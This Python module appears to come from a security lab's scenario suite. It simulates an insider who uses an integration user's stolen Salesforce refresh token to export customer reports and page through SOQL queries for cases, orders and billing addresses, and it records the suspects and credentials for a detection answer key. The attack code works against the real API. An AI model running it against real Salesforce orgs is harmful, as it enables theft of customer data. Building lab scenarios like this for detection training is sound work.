"""The attack `insider-export`: an employee uses an integration's login to leave with the customers.

Nothing is broken into and no key is found: the integration user may run and export reports and read all data
over REST, and somebody inside knows its refresh token. Reports first, because they are at hand; then REST,
page by page.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import requests

from deployments.lab.scenarios.attacker import (
    TIMEOUT_S,
    AttackLog,
    Credential,
    Persistence,
    SalesforceThief,
)
from deployments.lab.scenarios.scenario import KNOWN_AT_THE_ALARM, Lab, Scenario, play, recall, remember

USER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Safari/537.36"
REPORTS = ("All Customers", "Gold Members")  # run, and the first one exported as well
EXPORTED = REPORTS[0]
QUERIES = (
    "SELECT Id, CaseNumber, Subject, Description, ContactId, SuppliedEmail FROM Case WHERE IsClosed = false",
    "SELECT Id, OrderNumber, AccountId, TotalAmount, BillingStreet, BillingCity, BillingCountry FROM Order",
)


class InsiderExport:
    """Has the integration user's refresh token, and no other."""

    def __init__(self, lab: Lab, log: AttackLog) -> None:
        self.lab = lab
        self.log = log
        self.thief = SalesforceThief(lab, USER_AGENT)
        username = lab["stolen"]["integration_username"]
        tokens = json.loads(Path(lab["stolen"]["refresh_tokens_file"]).read_text(encoding="utf-8"))
        self.refresh_token = str(tokens[username])
        self.tokens: list[str] = []
        if not self.refresh():
            raise SystemExit("The integration's refresh token does not work: the lab is not as expected.")
        user_id = self._user_id()
        remember(
            lab,
            suspects=[f"salesforce-user={username}"],
            credentials=[f"oauth:{lab['stolen']['app']}:{user_id}"],
            secrets=[self.refresh_token],
        )

    def refresh(self) -> bool:
        token = self.thief.refresh(self.refresh_token)
        if token is not None and len(self.tokens) < 200:
            self.tokens.append(token)
        return token is not None

    def _user_id(self) -> str:
        headers = {"Authorization": f"Bearer {self.tokens[0]}"}
        reply = self.thief.http.get(
            f"{self.thief.url}/services/oauth2/userinfo", headers=headers, timeout=TIMEOUT_S
        )
        return str(reply.json()["user_id"])

    def exfiltrate(self) -> None:
        token = self.tokens[0]
        listed = self.thief.call("GET", "/analytics/reports", token).json()
        reports = {one["name"]: one["id"] for one in listed}
        for name in REPORTS:
            ran = self.thief.call("GET", f"/analytics/reports/{reports[name]}?includeDetails=true", token)
            self.log.add("oauth-access-token", "report run", ran.ok)
        exported = self._get(f"/{reports[EXPORTED]}?export=1&enc=UTF-8&xf=csv", token)
        self.log.add("oauth-access-token", "report export", exported.ok)
        for soql in QUERIES:
            self.log.add("oauth-access-token", "query", self._all_pages(soql, token))

    def _all_pages(self, soql: str, token: str) -> bool:
        reply = self.thief.query(soql, token)
        while reply.ok and (following := reply.json().get("nextRecordsUrl")):
            reply = self._get(following, token)
        return reply.ok

    def _get(self, path: str, token: str) -> requests.Response:
        headers = {"Authorization": f"Bearer {token}"}
        return self.thief.http.get(self.thief.url + path, headers=headers, timeout=TIMEOUT_S)

    def _access_tokens(self) -> list[Credential]:
        def use(token: str) -> bool:
            return self.thief.query("SELECT Id, Email FROM Contact LIMIT 200", token).ok

        return [
            Credential("oauth-access-token", "query", lambda token=token: use(token))  # type: ignore[misc]
            for token in self.tokens
        ]

    def _refresh(self) -> Credential:
        return Credential("oauth-refresh-token", "refresh", self.refresh)

    def persistence(self) -> Persistence:
        """One loop: the insider has one login."""
        return Persistence(self.log, [[*self._access_tokens(), self._refresh()]])

    def everything(self) -> Iterator[Credential]:
        yield from self._access_tokens()
        yield self._refresh()
        token = self.tokens[0]
        yield Credential(
            "oauth-access-token",
            "report list",
            lambda: self.thief.call("GET", "/analytics/reports", token).ok,
        )


SCENARIO = Scenario(
    name="insider-export",
    module="deployments.lab.scenarios.insider_export",
    leaked="An employee took customer data out by the Support Chat integration user, by report and REST",
    suspects=lambda lab: recall(lab, "suspects"),
    credentials=lambda lab: recall(lab, "credentials"),
    secrets=lambda lab: recall(lab, "secrets"),
    answers=KNOWN_AT_THE_ALARM,
)

if __name__ == "__main__":
    play(InsiderExport)
